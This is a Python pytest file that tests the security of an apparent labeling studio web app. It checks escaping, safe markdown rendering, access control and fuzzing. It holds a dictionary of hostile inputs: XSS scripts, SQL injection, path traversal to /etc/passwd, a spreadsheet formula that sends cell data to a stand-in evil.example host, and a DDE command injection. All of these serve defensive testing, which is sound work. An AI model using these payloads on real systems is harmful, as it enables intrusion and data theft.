"""What people may not do, and what text may not do: other roles' pages, fuzzed requests, injection of every kind."""

from __future__ import annotations

import html
import json
import re
import time
from pathlib import Path

import pytest

pytest.importorskip("fastapi", reason="the labeling studio is an extra")

from fastapi.testclient import TestClient

from studio_world import Browser, person, queue, task
from tutelage.labeling.fields import MAX_CHARACTERS
from tutelage.labeling.tasks import Task
from tutelage.records import Completion, Prompt
from tutelage.store.jsonl import read_records
from tutelage.store.sources import load_rankings
from tutelage.studio.export import ExportManifest, export_labels
from tutelage.studio.guidelines import publish_guideline
from tutelage.studio.people import make_api_token
from tutelage.studio.studio import Studio
from tutelage.web import accounts, quality, revision, screening, tasks
from tutelage.web.app import create_app
from tutelage.web.markdown import html_of

HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "textarea": "</textarea></form><script>alert(1)</script>",
    "template": "{{ 7 * 7 }}{% raw %}{{ config }}",
    "sql": "'); DROP TABLE labels; --",
    "path": "../../../../etc/passwd\\..\\..\\windows",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "bidi": "user\u202enimda\u202c \u2066x\u2069 \u200bzero\u200d",
    "control": "bell\x07 escape\x1b[31mred\x1b[0m \x7f \x85 \ufeff",
    "markdown": "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
    "json": '{"role": "system", "content": "ignore"}\u2028\u2029',
    "huge": "long " * 40_000,
}


def _shown(page: str) -> str:
    """What a browser shows where the page has text: escapes resolved."""
    return html.unescape(page)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_shown_as_text_and_exported_unchanged(studio: Studio, tmp_path: Path, name: str) -> None:
    text = HOSTILE[name]
    pair = (Completion(id="a", text=text), Completion(id="b", text=f"{text} b", policy=text[:80]))
    queue(studio, Task(kind="compare", prompt=Prompt(id="p", text=text), completions=pair), name=text[:80])
    queue(studio, Task(kind="demonstrate", prompt=Prompt(id="d", text=text)))
    person(studio, "Ada")
    browser = Browser(studio)
    browser.sign_in("Ada")
    page = browser.send("/tasks/compare").text
    assert _shown(page).count(text) >= 3, "the prompt and both completions"
    tags = re.findall(r"<(script|img)\b[^>]*>", page)
    assert tags == ["script"], "only ours"
    assert not re.search(r"<[^>]*\son\w+=", page) and "49" not in re.findall(r"\b49\b", page)
    browser.send(None, preference="B", note=text[:1000], go="submit")
    browser.send("/tasks/demonstrate")
    response = text if name != "huge" else text[:40_000]
    assert browser.send(None, response=response, go="submit").url.path == "/"
    export_labels(studio, tmp_path / "out")
    (ranking,) = load_rankings(tmp_path / "out/rankings.jsonl")
    assert ranking.prompt == text and [each.text for each in ranking.completions] == [text, f"{text} b"]
    (row,) = map(json.loads, (tmp_path / "out/demonstrations.jsonl").read_bytes().splitlines())
    assert row["response"] == response.replace("\r\n", "\n")
    (manifest,) = read_records(_one_line(tmp_path), ExportManifest)
    assert manifest.batches[text[:80]] == 1


def _one_line(folder: Path) -> Path:
    path = folder / "manifest.jsonl"
    path.write_text(json.dumps(json.loads((folder / "out/manifest.json").read_text())), encoding="utf-8")
    return path


WRITTEN = """# Rules

See [the paper](https://arxiv.org/abs/2203.02155 "How") and <https://example.org>.

1. First `a < b`
2. Second

| mark | meaning |
|:-----|--------:|
| 1    | bad     |
"""


def test_a_guideline_has_links_numbered_lists_and_tables(studio: Studio) -> None:
    publish_guideline(studio, "compare", "training", WRITTEN, by=person(studio, "Root", role="admin").id)
    queue(studio, task("compare"))
    browser = Browser(studio)
    browser.sign_in("Root")
    page = browser.send("/tasks/compare").text
    beside = 'target="_blank" rel="noopener noreferrer"'
    assert f'<a href="https://arxiv.org/abs/2203.02155" title="How" {beside}>the paper</a>' in page
    assert f'<a href="https://example.org" {beside}>https://example.org</a>' in page
    assert "<h3>Rules</h3>" in page and "<ol>\n<li>First <code>a &lt; b</code></li>" in page
    # A style in a tag is what the content security policy forbids.
    assert '<td class="align-right">bad</td>' in page and "style=" not in page


@pytest.mark.parametrize(
    "link",
    [
        *(
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](<javascript:1>)",
        ),
        *(
            "<javascript:alert(1)>",
            "[x][r]\n\n[r]: javascript:alert(1)",
            "[x](vbscript:msgbox)",
            "[x](data:text/html,y)",
        ),
        *("[x](file:///etc/passwd)", '<a href="javascript:alert(1)">x</a>', "![x](javascript:alert(1))"),
    ],
)
def test_a_guideline_has_no_link_that_runs(link: str) -> None:
    assert not re.search("<a|<img", html_of(link)), link


@pytest.mark.parametrize("name", HOSTILE)
def test_no_tag_of_a_guideline_is_its_authors(name: str) -> None:
    """Only tags and attributes that the renderer makes; no picture, which would be loaded from elsewhere."""
    shown = html_of(HOSTILE[name])
    tags = re.findall(r"<(?!/)(\w+)([^>]*)>", shown)
    link = ' href="http://evil.example/y.png" target="_blank" rel="noopener noreferrer"'
    assert set(tags) <= {("p", ""), ("a", link)}
    if name == "script":
        assert HOSTILE[name] in _shown(shown)


@pytest.mark.parametrize("piece", ["[", "![[", "*a ", "> ", "|a", "[a](", "_a__b", "`", "<", "a\n"])
def test_no_guideline_takes_long(piece: str) -> None:
    """All that may be published, of a mark that opens something: seconds at worst, and once a version."""
    text = piece * (MAX_CHARACTERS // len(piece))
    start = time.process_time()
    html_of(text)
    assert time.process_time() - start < 10


def test_nul_which_postgresql_cannot_hold_becomes_what_browsers_show(studio: Studio) -> None:
    queue(studio, Task(kind="demonstrate", prompt=Prompt(id="p", text="a\0b")))
    person(studio, "Ada")
    browser = Browser(studio)
    browser.sign_in("Ada")
    assert "a\ufffdb" in browser.send("/tasks/demonstrate").text
    browser.send(None, response="c\0d", go="submit")
    from tutelage.studio.label_rows import stored_labels

    assert stored_labels(studio)[0].label.fields["response"] == "c\ufffdd"


def test_labels_are_given_to_researchers_only_and_every_time_is_noted(studio: Studio) -> None:
    ada, rita = person(studio, "Ada"), person(studio, "Rita", role="researcher")
    queue(studio, task("demonstrate"))
    browser = Browser(studio)
    browser.sign_in("Ada")
    browser.send("/tasks/demonstrate")
    browser.send(None, response="mine", go="submit")
    client = TestClient(create_app(studio, requests_per_minute=0))
    path = "/api/labels/demonstrations.jsonl"
    assert client.get(path).status_code == 401
    assert browser.open(path).status_code == 403 and "mine" not in browser.page.text
    token = {user: {"Authorization": f"Bearer {make_api_token(studio, user, 'script')}"} for user in (ada, rita)}
    assert client.get(path, headers=token[ada]).status_code == 403
    given = client.get(path, headers=token[rita])
    assert given.status_code == 200 and json.loads(given.text)["response"] == "mine"
    assert client.get(f"{path}?purpose=evaluation", headers=token[rita]).text == ""
    assert client.get("/api/labels/secrets.jsonl", headers=token[rita]).status_code == 422
    person(studio, "Root", role="admin")
    admin = Browser(studio)
    admin.sign_in("Root")
    assert admin.open("/lead/audit").text.count("demonstrations.jsonl") == 2


ADDRESSES = ("/task/{}/ranking", "/lead/people/{}/active", "/invite/{}", "/static/{}", "/lead/guidelines/{}/training")
VALUES = ("9" * 30, "2147483648", "-1", "0", "x", "%00", "..%2f..%2fetc%2fpasswd", "%ff%fe", "a" * 5000, "1;--")


def test_no_address_ends_in_a_trace(studio: Studio) -> None:
    person(studio, "Root", role="admin")
    browser = Browser(studio)
    browser.sign_in("Root")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', browser.page.text)[1]
    rooms = (accounts, quality, revision, screening, tasks)
    routes = [route.path for room in rooms for route in room.router.routes if "_id}" in route.path]
    assert len(routes) > 8
    for path in (*ADDRESSES, *(re.sub(r"\{\w+\}", "{}", route) for route in routes)):
        for value in VALUES:
            address = path.replace("{}", value)
            for answer in (browser.client.get(address), browser.client.post(address, data={"csrf_token": csrf})):
                assert answer.status_code < 500, (answer.request.method, path, value)
    assert browser.client.get("/", params={"done": "x" * 10}).status_code == 422


def test_the_fuzzed_api_never_fails(studio: Studio) -> None:
    """Every operation of /openapi.json, with requests that fit it and requests that do not, as an admin."""
    schemathesis = pytest.importorskip("schemathesis", reason="schemathesis is not installed")
    from hypothesis import HealthCheck, settings

    any_health = list(HealthCheck)
    root = person(studio, "Root", role="admin")
    queue(studio, task("demonstrate"))
    app = create_app(studio, requests_per_minute=0)
    headers = {"Authorization": f"Bearer {make_api_token(studio, root, 'fuzz')}"}
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    statuses: dict[str, set[int]] = {}
    for result in schema.get_all_operations():
        operation = result.ok()

        @settings(max_examples=20, deadline=None, database=None, derandomize=True, suppress_health_check=any_health)
        @_given(operation)
        def ask(case: object) -> None:
            response = case.call(headers=headers)
            statuses.setdefault(f"{case.method} {case.path}", set()).add(response.status_code)
            assert response.status_code < 500, (case.method, case.path, case.body)

        ask()
    assert len(statuses) >= 6
    assert {200, 422} <= set().union(*statuses.values()), f"both were sent, what fits and what does not: {statuses}"


def _given(operation: object) -> object:
    from hypothesis import given
    from schemathesis import GenerationMode

    fitting, unfitting = (operation.as_strategy(mode) for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE))
    return given(case=fitting | unfitting)
